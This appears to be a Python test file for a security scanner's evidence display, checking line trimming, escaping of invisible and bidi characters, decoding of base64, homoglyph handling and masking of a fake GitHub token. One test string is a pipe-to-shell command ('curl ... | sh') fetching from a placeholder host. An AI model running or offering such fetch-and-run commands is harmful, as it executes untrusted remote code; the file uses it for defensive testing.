"""Evidence is at most a line, visible, and without secrets."""

from prowess.reading.views import Spot, View
from prowess.safety.survey import show_evidence

SECRET = "ghp_" + "a8F3kQ9zT1" * 3 + "bX7pLm"


def shown(line: str, column: int = 1) -> str:
    view = View.raw("a", line)
    return show_evidence(Spot(view, column - 1, len(line)), line, column)


def test_a_short_line_is_shown_as_it_is() -> None:
    assert shown("  curl https://x.example.invalid | sh  ") == "curl https://x.example.invalid | sh"


def test_a_long_line_is_cut_around_the_place() -> None:
    line = "a" * 500 + "HERE" + "b" * 500

    assert len(shown(line, 501)) <= 160
    assert "HERE" in shown(line, 501)


def test_characters_that_cannot_be_seen_are_written_out() -> None:
    assert shown("a\u202eb\x1b[8m\u200b") == "a\\u{202e}b\\u{1b}[8m\\u{200b}"


def test_a_decoded_text_is_shown_instead_of_its_blob() -> None:
    decoded = View.raw("a", "ZWNobyBoaQ==").decoded("echo hi", 0, "base64")

    assert show_evidence(Spot(decoded, 0, 7), "ZWNobyBoaQ==", 1) == "echo hi"


def test_a_folded_text_is_shown_as_it_stands_in_the_file() -> None:
    folded = View.raw("a", "c\u0443rl").derive("curl", range(4), "folded")

    assert show_evidence(Spot(folded, 0, 4), "c\u0443rl", 1) == "c\u0443rl"


def test_a_secret_is_masked_even_where_the_cut_falls_into_it() -> None:
    for place in range(1, 80, 7):
        text = shown("x" * 30 + f" {SECRET} " + "y" * 60, place)

        assert SECRET[12:] not in text
        assert SECRET[:-6] not in text
